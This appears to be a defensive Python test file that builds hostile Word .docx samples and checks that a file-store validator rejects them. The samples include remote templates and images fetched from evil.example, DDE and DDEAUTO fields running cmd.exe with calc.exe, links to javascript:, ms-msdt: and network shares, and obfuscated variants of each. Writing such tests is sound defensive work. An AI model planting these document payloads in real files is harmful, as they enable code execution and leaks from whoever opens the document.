"""Word .docx files that fetch from elsewhere: templates, pictures, links and fields."""
# ruff: noqa: E501

from filestore.errors import FetchesFromOutside, FieldFetches, UnsafeLink
from tests.filestore.hostile.word_making import (
    MICROSOFT,
    SPACES,
    field,
    related,
    relations,
    with_body,
)
from tests.filestore.hostile.words import family
from tests.filestore.making import changed_docx

add = family.add

# --- Things fetched from elsewhere
OUTSIDE = (
    *(
        "https://evil.example/a",
        "http://192.0.2.1/a",
        "\\\\evil.example\\share\\a",
        "//evil.example/a",
    ),
    *("file://evil.example/share/a", "file:///\\\\evil.example\\a", "ftp://evil.example/a"),
)
for target in OUTSIDE:
    add(
        f"template at {target}",
        related("attachedTemplate", target, part="settings.xml"),
        FetchesFromOutside,
    )
    add(f"picture at {target}", related("image", target), FetchesFromOutside)
for kind in (
    *("frame", "externalLink", "externalLinkPath", "mailMergeSource", "mailMergeHeaderSource"),
    *(
        "transform",
        "officeDocument",
        "styles",
        "header",
        "font",
        "stylesheet",
        "customXml",
        "theme",
    ),
):
    add(f"relation {kind} to outside", related(kind, "https://evil.example/a"), FetchesFromOutside)
add(
    "relation to outside in capitals",
    related("image", "https://x.example/a", ' targetMode="EXTERNAL"'),
    FetchesFromOutside,
)
add(
    "address without saying that it is outside",
    related("image", "https://x.example/a", ""),
    FetchesFromOutside,
)
add(
    "template in relations in UTF-16",
    changed_docx(
        add={
            "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://x.example")
            .decode()
            .encode("utf-16")
        }
    ),
    FetchesFromOutside,
)
add(
    "template by number of letters",
    related("attachedTemplate", "&#104;ttps://x.example/a"),
    FetchesFromOutside,
)
add(
    "template in the Strict kind of file",
    related(
        "attachedTemplate",
        "https://x.example/a",
        space="http://purl.oclc.org/ooxml/officeDocument/relationships",
    ),
    FetchesFromOutside,
)
add(
    "frames' page",
    changed_docx(
        add={"word/_rels/webSettings.xml.rels": relations("frame", "https://x.example/a")}
    ),
    FetchesFromOutside,
)
add(
    "add-in from outside",
    changed_docx(
        add={"_rels/more.rels": relations("webextensiontaskpanes", "a.xml", "", MICROSOFT)}
    ),
    FetchesFromOutside,
)
add(
    "picture drawn from outside",
    with_body(
        "<w:p><w:r><w:pict><v:shape><v:imagedata src='https://x.example/a.png'/></v:shape></w:pict></w:r></w:p>"
    ),
    FetchesFromOutside,
)
add(
    "picture drawn from a network folder",
    with_body(
        "<w:p><w:r><w:pict><v:shape><v:fill src='\\\\evil\\a.png'/></v:shape></w:pict></w:r></w:p>"
    ),
    FetchesFromOutside,
)
for target in (
    *("javascript:alert(1)", "file:///C:/Windows/System32/calc.exe", "\\\\evil.example\\share\\a"),
    *(
        "file://evil.example/a",
        "ms-msdt:/id",
        "search-ms:query=a",
        "vbscript:a",
        "tool.exe",
        "..\\a.lnk",
    ),
    *(
        "data:text/html,a",
        "C:\\Windows\\System32\\cmd.exe",
        "ms-word:ofe|u|https://x.example/a.dotm",
    ),
):
    add(f"link to {target}", related("hyperlink", target), UnsafeLink)
add(
    "template spelled with percent signs",
    related("attachedTemplate", "%68ttps://evil.example/a"),
    FetchesFromOutside,
)
add(
    "template in a web page's archive",
    related("attachedTemplate", "mhtml:https://evil.example/a"),
    FetchesFromOutside,
)
add(
    "template behind mixed slashes",
    related("attachedTemplate", "/\\evil.example\\a"),
    FetchesFromOutside,
)
add(
    "link to a script spelled with percent signs",
    related("hyperlink", "java%73cript:alert(1)"),
    UnsafeLink,
)
add(
    "link to a web page's archive",
    related("hyperlink", "mhtml:https://evil.example/a!b"),
    UnsafeLink,
)
add("picture on a drive", related("image", "file:///C:/Users/sam/a.png"), FetchesFromOutside)
add(
    "letters merged from a database",
    changed_docx(
        add={
            "word/settings.xml": f"<w:settings {SPACES}><w:mailMerge><w:connectString w:val='Provider=SQL'/></w:mailMerge></w:settings>".encode()
        }
    ),
    FetchesFromOutside,
)

# --- Fields
COMMAND = ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
for word in (
    *("DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "INCLUDE", "IMPORT", "LINK", "DATABASE"),
    *("RD", "MACROBUTTON", "EMBED", "dde", "DdeAuto", "includepicture", "CONTROL"),
):
    add(f"field {word}", with_body(field(f" {word}{COMMAND}")), FieldFetches)
for word in ("DDEAUTO", "INCLUDETEXT", "LINK"):
    simple = (
        f"<w:p><w:fldSimple w:instr=' {word} \"https://x.example/a\" '><w:r/></w:fldSimple></w:p>"
    )
    add(f"simple field {word}", with_body(simple), FieldFetches)
    for part in ("header1", "footer1", "footnotes", "endnotes", "comments", "glossary/document"):
        content = with_body(field(f"{word}{COMMAND}"), part=f"word/{part}.xml", wrap="hdr")
        add(f"field {word} in word/{part}.xml", content, FieldFetches)
add("field cut in pieces", with_body(field("D", "DE", "AUTO", COMMAND)), FieldFetches)
add("field by numbers of letters", with_body(field("&#68;&#x44;E" + COMMAND)), FieldFetches)
add(
    "field in two kinds of section", with_body(field("<![CDATA[DD]]>EAUTO" + COMMAND)), FieldFetches
)
add("field with quotation marks", with_body(field('"DDEAUTO"' + COMMAND)), FieldFetches)
add(
    "field whose word another field spells",
    with_body(
        "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
        + field(" QUOTE 68 68 69 65 85 84 79 ")[5:-6]
        + f"<w:r><w:instrText>{COMMAND}</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
    ),
    FieldFetches,
)
add(
    "field inside of an IF",
    with_body(
        "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> IF 1=1 </w:instrText></w:r>"
        + field("DDEAUTO" + COMMAND)[5:-6]
        + "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
    ),
    FieldFetches,
)
add(
    "field that never ends its code",
    with_body("<w:p><w:r><w:instrText>DDEAUTO c:\\\\a</w:instrText></w:r></w:p>"),
    FieldFetches,
)
add(
    "field in a deleted passage",
    with_body(
        field("x").replace(
            "<w:instrText>x</w:instrText>", "<w:delInstrText>DDEAUTO a</w:delInstrText>"
        )
    ),
    FieldFetches,
)
add(
    "field whose code stands in the words",
    with_body(
        field("x").replace("<w:instrText>x</w:instrText>", "<w:t>DDE</w:t><w:t>AUTO cmd a</w:t>")
    ),
    FieldFetches,
)
add(
    "field whose code goes on in the words",
    with_body(
        field("INCLUDE", "x").replace("<w:instrText>x</w:instrText>", "<w:t>TEXT //x/a</w:t>")
    ),
    FieldFetches,
)
add(
    "field in UTF-16",
    changed_docx(
        drop="word/document.xml",
        add={
            "word/document.xml": f"<w:document {SPACES}><w:body>{field('DDEAUTO' + COMMAND)}</w:body></w:document>".encode(
                "utf-16"
            )
        },
    ),
    FieldFetches,
)
add(
    "field that links to a program",
    with_body(field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" ')),
    UnsafeLink,
)
add("field that links to a script", with_body(field(" HYPERLINK javascript:alert(1) ")), UnsafeLink)
add(
    "field in a text box",
    with_body(
        "<w:p><w:r><w:pict><v:shape><v:textbox>"
        + field("DDEAUTO a b")
        + "</v:textbox></v:shape></w:pict></w:r></w:p>"
    ),
    FieldFetches,
)
add(
    "field that links to a network folder",
    with_body(field(' HYPERLINK "\\\\\\\\evil.example\\\\a" ')),
    UnsafeLink,
)
